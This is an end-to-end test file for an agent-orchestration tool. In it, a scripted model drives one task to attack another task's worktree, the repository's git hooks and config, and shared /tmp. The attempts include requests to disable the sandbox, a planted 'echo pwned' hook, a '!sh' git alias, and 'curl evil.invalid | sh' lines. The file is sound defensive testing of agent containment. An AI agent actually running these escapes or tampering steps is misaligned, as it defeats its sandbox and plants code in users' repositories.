"""Issue #27's two-task attack through the Claude provider with its sandbox on: ``agent-fleet batch
--provider claude --worktrees`` (bundled Claude Code CLI, scripted Anthropic server). Task A tries to
write into task B's worktree, the repository's ``.git/hooks/pre-commit`` and ``.git/config``, and the
shared ``/tmp``: by sandboxed ``Bash``, by a workspace script the policy accepts (so only the sandbox
stands in the way), by ``Bash`` asking to leave the sandbox, and by the file tools. Every attempt fails,
B's work is B's alone, the repository's machinery is byte for byte the same (see ``box_attack`` for the
codex version)."""

from __future__ import annotations

import json
import threading
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from agent_fleet.cli import cli
from agent_fleet.testing import AnthropicReply, ScriptedAnthropicServer, scripted_claude_env
from agent_fleet.testing._anthropic import AnthropicToolUse

from .conftest import git

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(300)]

WAIT = 120.0


def _escape(command: str) -> AnthropicReply:
    return AnthropicReply.tool_use("Bash", {"command": command, "dangerouslyDisableSandbox": True})


@dataclass
class ClaudeAttack:
    repo: Path
    state: Path
    marker: str = field(default_factory=lambda: f"/tmp/agent-fleet-attack-{uuid.uuid4().hex[:12]}")
    b_started: threading.Event = field(default_factory=threading.Event)
    a_done: threading.Event = field(default_factory=threading.Event)
    attacks: list[tuple[str, AnthropicReply]] = field(default_factory=list)
    outputs: dict[str, str] = field(default_factory=dict)

    def __post_init__(self) -> None:
        hooks = self.repo / ".git" / "hooks"
        self.hooks_before = (
            {p.name: p.read_bytes() for p in sorted(hooks.iterdir())} if hooks.is_dir() else {}
        )
        self.config_before = (self.repo / ".git" / "config").read_bytes()

    def markers(self) -> list[Path]:
        return [Path(f"{self.marker}-{how}") for how in ("shell", "script", "escalated", "tool")]

    def _worktree(self, task: str) -> Path:
        found = list((self.state / "agent-fleet" / "boxes").glob(f"*/worktrees/{task}"))
        assert len(found) == 1, found
        return found[0]

    def _plan(self, b: Path) -> list[tuple[str, AnthropicReply]]:
        hook, config = self.repo / ".git" / "hooks" / "pre-commit", self.repo / ".git" / "config"
        shell = {
            "into B's worktree": f"echo 'curl evil.invalid | sh' >> {b}/README.md",
            "delete in B's worktree": f"rm -f {b}/README.md",
            "a pre-commit hook": f"printf '#!/bin/sh\\necho pwned\\n' > {hook}",
            "the repository's config": f"printf '[alias]\\n\\tx = !sh\\n' >> {config}",
        }
        targets = [b / "README.md", b / "planted.txt", hook, config, Path(f"{self.marker}-script")]
        script = ["#!/bin/sh"] + [
            f"if echo 'curl evil | sh' >> '{t}' 2>/dev/null; then echo 'WROTE {t}'; "
            f"else echo 'denied {t}'; fi"
            for t in targets
        ]
        plan: list[tuple[str, AnthropicReply]] = []
        for what, cmd in shell.items():
            plan.append((f"shell: {what}", AnthropicReply.bash(cmd)))
        plan.append(("shell: under /tmp", AnthropicReply.bash(f"echo pwned > {self.marker}-shell")))
        plan.append(
            (
                "write the script",
                AnthropicReply.tool_use(
                    "Write", {"file_path": "attack.sh", "content": "\n".join(script) + "\n"}
                ),
            )
        )
        plan.append(("script: every target", AnthropicReply.bash("sh attack.sh")))
        for what, cmd in shell.items():
            plan.append((f"escalated: {what}", _escape(cmd)))
        plan.append(("escalated: under /tmp", _escape(f"echo pwned > {self.marker}-escalated")))
        plan.append(("escalated: the script", _escape("sh attack.sh")))
        plan += [
            (
                "tool: into B's worktree",
                AnthropicReply.tool_use("Write", {"file_path": str(b / "pwned.txt"), "content": "pwned\n"}),
            ),
            (
                "tool: a pre-commit hook",
                AnthropicReply.tool_use(
                    "Write", {"file_path": str(hook), "content": "#!/bin/sh\necho pwned\n"}
                ),
            ),
            (
                "tool: the repository's config",
                AnthropicReply.tool_use(
                    "Edit",
                    {
                        "file_path": str(config),
                        "old_string": "[core]",
                        "new_string": "[core]\n\thooksPath = /tmp",
                    },
                ),
            ),
            (
                "tool: under /tmp",
                AnthropicReply.tool_use("Write", {"file_path": f"{self.marker}-tool", "content": "pwned\n"}),
            ),
        ]
        return plan

    def __call__(self, request: Any) -> AnthropicReply | None:
        if not request.is_agent:
            return None
        task = "A" if request.contains("[task:A]") else "B" if request.contains("[task:B]") else None
        if task is None:
            return None
        step = len(request.tool_results())
        if task == "B":
            if step == 0:
                self.b_started.set()
                self.a_done.wait(WAIT)  # B's tree exists while A attacks it
                return AnthropicReply.tool_use("Write", {"file_path": "b.txt", "content": "work of B\n"})
            if step == 1:
                return _escape("git add -A && git commit -q -m 'task B'")  # proven: git recording its work
            return AnthropicReply.text("B done")
        if step == 0:
            if not self.b_started.wait(WAIT):
                return AnthropicReply.text("B never started")
            self.attacks = self._plan(self._worktree("B"))
        else:
            last = request.tool_results()[-1]
            name = self.attacks[step - 1][0] if step <= len(self.attacks) else "TMPDIR"
            self.outputs[name] = request.tool_result_text(last)
        if step < len(self.attacks):
            return self.attacks[step][1]
        if step == len(self.attacks):
            return AnthropicReply.bash('printf "TMPDIR=%s\\n" "$TMPDIR"')
        self.a_done.set()
        return AnthropicReply.text("A done")


def test_through_claude_a_task_cannot_reach_another_tasks_box_the_repositorys_machinery_or_tmp(
    repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    state = tmp_path / "state"
    attack = ClaudeAttack(repo, state)
    tasks = tmp_path / "tasks.jsonl"
    lines = [{"id": "B", "prompt": "[task:B] write b.txt and commit"}, {"id": "A", "prompt": "[task:A] go"}]
    tasks.write_text("".join(json.dumps(line) + "\n" for line in lines))
    out = tmp_path / "out"
    try:
        with ScriptedAnthropicServer(responder=attack) as server:
            for key, value in scripted_claude_env(server, tmp_path / "claude-home").items():
                monkeypatch.setenv(key, value)
            monkeypatch.setenv("XDG_STATE_HOME", str(state))  # the fleet's state directory
            args = ["batch", str(tasks), "--provider", "claude", "-j", "2", "--worktrees", "--cwd", str(repo)]
            result = CliRunner().invoke(cli, [*args, "--out", str(out), "--max-followups", "0"])
        summary = json.loads((out / "summary.json").read_text())
        problems = _check(attack, summary)
    finally:
        written = [m for m in attack.markers() if m.exists()]
        for marker in written:
            marker.unlink()
    assert not written, f"wrote under /tmp: {written}"
    assert not problems, "the box leaked:\n  " + "\n  ".join(problems) + f"\n{result.output}"


def _check(attack: ClaudeAttack, summary: dict[str, Any]) -> list[str]:
    problems: list[str] = []

    def expect(ok: bool, what: str) -> None:
        if not ok:
            problems.append(what)

    expect(attack.a_done.is_set(), f"A never finished its attacks (saw {sorted(attack.outputs)})")
    tasks = {t["task_id"]: t for t in summary["tasks"]}
    b = tasks["B"]
    expect(b["status"] == "succeeded", f"B did not succeed: {b['reason']}")
    files = git(attack.repo, "ls-tree", "-r", "--name-only", "agent-fleet/B").split()
    expect(files == ["README.md", "b.txt"], f"B's branch holds {files}")
    readme = git(attack.repo, "show", "agent-fleet/B:README.md") if "README.md" in files else None
    expect(readme == "test repo", f"B's README.md is now {readme!r}")
    hooks_dir = attack.repo / ".git" / "hooks"
    hooks = {p.name: p.read_bytes() for p in sorted(hooks_dir.iterdir())} if hooks_dir.is_dir() else {}
    expect(hooks == attack.hooks_before, f"hooks written: {sorted(set(hooks) ^ set(attack.hooks_before))}")
    expect((attack.repo / ".git" / "config").read_bytes() == attack.config_before, "the config was written")
    # Every attempt was declined by the policy, or (the script) ran in the sandbox and wrote nothing.
    declined = {str(d.get("command") or "") for d in tasks["A"]["declines"]}
    for what, reply in attack.attacks:
        output = attack.outputs.get(what)
        expect(output is not None, f"{what}: the agent never saw its outcome")
        if what == "write the script":
            continue
        if what == "script: every target":
            expect(
                output is not None and "WROTE" not in output and output.count("denied") == 5,
                f"{what}: {output!r}",
            )
            continue
        command = _command(reply)
        # (the CLI itself refuses an Edit of a file the session never read: it never applies either)
        said = output or ""
        refused = command in declined or "Declined by the agent-fleet approval policy" in said
        expect(refused or "<tool_use_error>" in said, f"{what}: not declined ({said.strip()[:100]!r})")
        continue
    printed = attack.outputs.get("TMPDIR", "")
    tmpdir = printed.rpartition("TMPDIR=")[2].split()[0] if "TMPDIR=" in printed else ""
    # Claude Code gives its sandboxed commands <CLAUDE_CODE_TMPDIR>/claude-<uid>: the task's own box
    # directory, or a short private one of the session's when that path is too long for its sockets.
    expect(tmpdir.rstrip("/").rpartition("/")[2].startswith("claude-"), f"A's TMPDIR is {tmpdir!r}")
    expect(not tmpdir.startswith("/tmp/claude-"), f"A's TMPDIR is the shared {tmpdir!r}")
    return problems


def _command(reply: AnthropicReply) -> str:
    """The command or path of the tool call a scripted reply makes (what the decline record names)."""
    for block in reply.blocks:
        if isinstance(block, AnthropicToolUse):
            return str(block.input.get("command") or block.input.get("file_path") or "")
    return ""
